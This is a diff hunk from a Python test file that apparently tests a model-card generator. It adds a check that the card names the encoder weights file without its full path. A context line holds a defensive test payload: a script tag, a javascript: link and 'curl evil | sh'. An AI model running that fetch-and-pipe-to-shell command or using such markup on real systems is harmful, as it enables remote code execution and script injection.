@@ -250,6 +250,17 @@ def test_the_card_says_what_the_files_say(exported: Exported, trained_run: Path)
     assert "Not a medical device" in card and "selected on the val images" in card
 
 
+def test_the_card_names_the_file_that_an_encoder_started_from(trained_run: Path, tmp_path: Path) -> None:
+    run = shutil.copytree(trained_run, tmp_path / "run")
+    config = yaml.safe_load((run / "config.yaml").read_text())
+    config["model"]["encoder_weights"] = "/home/ann/hub/lite0.safetensors"
+    (run / "config.yaml").write_text(yaml.safe_dump(config))
+    (run / BUNDLED).touch()
+    card = model_card(run, "place")
+    assert "started from weights of the file lite0.safetensors." in card and "/home" not in card
+    assert "shown to it since" in card
+
+
 def test_the_card_of_a_stranger_s_run_is_words_alone(trained_run: Path, tmp_path: Path) -> None:
     run = shutil.copytree(trained_run, tmp_path / "run")
     payload = "<script>alert(1)</script> [a](javascript:b) ![c](http://d/e)\n```\ncurl evil | sh"
